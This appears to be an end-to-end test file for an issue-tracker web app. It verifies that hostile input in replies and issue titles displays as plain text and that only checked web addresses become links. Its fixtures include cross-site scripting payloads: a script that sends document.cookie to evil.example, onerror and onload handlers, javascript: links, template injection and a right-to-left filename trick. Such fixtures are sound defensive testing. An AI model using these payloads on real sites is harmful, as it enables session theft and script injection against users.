// Whatever an entry says is text: no markup, no script, no picture from elsewhere, no link but one that was checked.
import { expect, test } from './rig/test.ts';
import { told } from './rig/told.ts';

const hostile = [
  '<img src="https://evil.example/pixel.png" onerror="document.title=1">',
  '<script>fetch("https://evil.example/" + document.cookie)</script>',
  '<a href="javascript:alert(1)">click me</a> [and me](javascript:alert(2)) javascript:alert(3)',
  '<iframe src="https://evil.example/"></iframe><svg onload=alert(4)></svg>',
  'A good link: https://example.org/help?a=1&b=2 and file:///etc/passwd',
  '{{constructor.constructor("alert(5)")()}} \u202Etxt.exe\u202C',
];

test('hostile text stays text, also in the notice', async ({ app, house, page, snap }) => {
  const agent = await house.agent();
  await app.enter();
  const [issue] = await agent.issues('open');
  if (!issue) throw new Error('the demo has no open issue');
  await agent.reply(issue.id, hostile.join('\n'));
  const notice = await told(house, issue.title);
  expect(notice.body).toContain('<img src="https://evil.example/pixel.png"');
  await agent.ask(issue.id, '<b>Which</b> &amp; <img src=x onerror=alert(6)> browser?');

  await app.openIssue('awaiting', issue.title);
  for (const line of hostile.slice(0, 5)) await expect(app.entries.getByText(line).first()).toBeVisible();
  await expect(app.entries.locator('iframe, script, img, a, [onerror], [onload]')).toHaveCount(0);
  await snap('text');

  const links = app.entries.getByRole('link');
  const shown = await links.allInnerTexts();
  expect(shown.filter((link) => !/^https?:/.test(link)), 'only web addresses are links').toEqual([]);
  await app.entries.getByRole('link', { name: 'https://example.org/help?a=1&b=2' }).click();
  await expect.poll(() => house.opened()).toEqual(['https://example.org/help?a=1&b=2']);
  expect(new URL(page.url()).host).toBe(new URL(house.ready.window).host);
});

test('a hostile title is a title', async ({ app, house }) => {
  const title = '<img src=x onerror=alert(1)> & "quotes" \'all\'';
  await app.enter();
  await app.newIssue.click();
  await app.compose.write('English', title, '<script>alert(2)</script>');
  await app.compose.submit.click();
  await app.openIssue('open', `English - ${title}`);
  await expect(app.entries.first()).toContainText('<script>alert(2)</script>');
  expect(await (await house.agent()).titled(`English - ${title}`)).toHaveLength(1);
});
